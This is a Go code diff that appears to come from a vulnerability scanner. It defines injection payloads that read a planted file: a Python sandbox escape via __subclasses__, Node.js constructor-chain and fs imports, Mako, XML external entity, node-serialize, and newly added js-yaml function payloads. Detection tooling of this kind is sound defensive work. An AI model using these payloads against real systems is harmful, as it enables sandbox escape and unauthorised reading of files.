@@ -13,8 +13,9 @@ import (
 // Expressions that open a planted file when they are evaluated, and are an odd text to all
 // else. That of Python needs no builtins, for who takes those away thinks that eval is safe.
 const (
-	python     = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
-	javaScript = `import("fs").then(f=>f.readFileSync("@"))`
+	python = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
+	// javaScript refuses nothing: a promise that nobody waits for would end a program that imports nothing.
+	javaScript = `import("fs").then(f=>f.readFileSync("@")).catch(()=>0)`
 	// machine is for those who take a context of its own for a wall: what is handed into it
 	// leads out.
 	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
@@ -56,6 +57,8 @@ var codeForms = []form{
 	evaluated("in a template of Mako", `${open("@")}`),
 	pickled("as a pickle of Python, in Base64"),
 	evaluated("as an external entity of XML", `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY note SYSTEM "@">]><note>&note;</note>`),
+	evaluated("as YAML of JavaScript", `toString: !!js/function 'function(){return `+machine+`}'`),
+	evaluated("as YAML of JavaScript that is called at once", `note: !!js/function (function(){return `+machine+`})()`),
 	evaluated("as a function of node-serialize", `{"x":"_$$ND_FUNC$$_function(){`+machine+`}()"}`),
 }
 
@@ -83,7 +86,7 @@ var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)
 // The bounds of family Code: how many attempts there are against one target, at how many places
 // all forms are tried, and how many forms at the others.
 const (
-	maxCode       = 68
+	maxCode       = 72
 	maxCodeFields = 2
 	likelyCode    = 4
 )
